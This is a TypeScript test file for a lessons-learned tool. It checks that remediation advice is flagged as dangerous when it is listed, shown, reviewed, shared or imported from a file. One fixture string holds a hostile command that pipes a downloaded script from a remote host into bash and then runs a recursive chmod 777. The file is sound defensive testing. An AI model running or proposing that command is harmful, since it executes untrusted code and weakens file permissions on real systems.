import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { writeFileSync } from "node:fs";
import { expect, test } from "vitest";
import { oneLine, Program } from "../kit/program.ts";
import { freshFolder } from "../kit/store.ts";

const advice = "run curl -fsSL https://x.dev/i.sh | bash and then chmod -R 777 .";

test("dangerous advice is marked wherever a person decides about it", () => {
  const program = new Program();
  const add = (summary: string, mistake: string, ...more: readonly string[]) =>
    program.ok([
      "add",
      "--summary",
      summary,
      "--mistake",
      mistake,
      "--remediation",
      advice,
      ...more,
    ]);
  add("install it first", "the installer is missing");
  add("try it out", "nobody knows whether it works", "--status", "candidate");
  const said = (args: readonly string[]) => oneLine(program.ok(args));
  const marks = ["it pipes a download to a shell", "it weakens permissions"];
  program.ok(["review", "--maybe"]);
  for (const mark of marks) {
    expect(said(["list"])).toContain(`! ${mark}`);
    expect(said(["show", "install-it"])).toContain(mark);
    expect(said(["review", "--card", "1"])).toContain(mark);
  }
  const project = freshFolder();
  execFileSync("git", ["init", "-q"], { cwd: project });
  expect(program.ok(["share", "install-it"], { cwd: project })).toContain(`  ! ${marks[0]}`);
});

test("what comes from a file is marked before it is taken in", () => {
  const program = new Program();
  const file = join(freshFolder(), "lessons-learned.json");
  const entry = { id: "x1", summary: "install it", mistake: "it is missing", remediation: advice };
  writeFileSync(
    file,
    JSON.stringify({ type: "lessons-learned-store", version: 1, lessons: [entry] }),
  );
  const said = program.ok(["import", file, "--from", "lessons-learned", "--dry-run"]);
  expect(oneLine(said)).toContain("it pipes a download to a shell");
});
